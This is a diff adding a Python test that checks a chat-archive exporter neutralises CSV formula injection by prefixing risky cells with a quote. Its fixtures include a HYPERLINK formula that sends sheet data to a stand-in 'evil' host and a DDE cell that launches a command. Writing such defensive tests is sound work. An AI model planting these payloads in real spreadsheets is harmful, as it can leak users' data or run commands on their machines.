@@ -185,3 +185,24 @@ def test_a_charts_text_cannot_swallow_the_script_that_draws_it(root: Path, text:
     payload = page.split(start, 1)[1].split("</script>", 1)[0]
     assert "<!--" not in payload and "</" not in payload
     assert json.loads(payload) == json.loads(figure)
+
+
+def test_a_tables_csv_cells_never_open_as_formulas(root: Path) -> None:
+    """The CSV beside an export is for a person's spreadsheet, and a chat user chose the
+    cells: one starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
+    is a formula there (``=HYPERLINK(...)`` sends the sheet's data away). Such a text
+    cell, column names included, starts with a single quote; numbers stay numbers."""
+    store = ArchiveStore(root)
+    store.write_step({"id": "m", "threadId": "t", "type": "assistant_message", "output": "x"})
+    hostile = ['=HYPERLINK("http://evil/?"&A1)', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]
+    doc = {"columns": ["=cmd|' /C calc'!A0", "n"], "data": [[h, -5] for h in hostile]}
+    frame = json.dumps(doc).encode()
+    store.put_element("t", {"id": "df", "type": "dataframe", "name": "t", "forId": "m"}, frame)
+    found = store.get_thread("t")
+    assert found is not None
+    bundle = build(store, found, "markdown", plotly=None)
+    whole = content(bundle.files[f"{bundle.stem}.files/_tables/df.csv"]).decode()
+    rows = list(csv.reader(io.StringIO(whole, newline="")))
+    assert rows[0] == ["'=cmd|' /C calc'!A0", "n"]
+    assert [r[0] for r in rows[1:]] == ["'" + h for h in hostile]
+    assert {r[1] for r in rows[1:]} == {"-5"}  # a number is data, not a formula
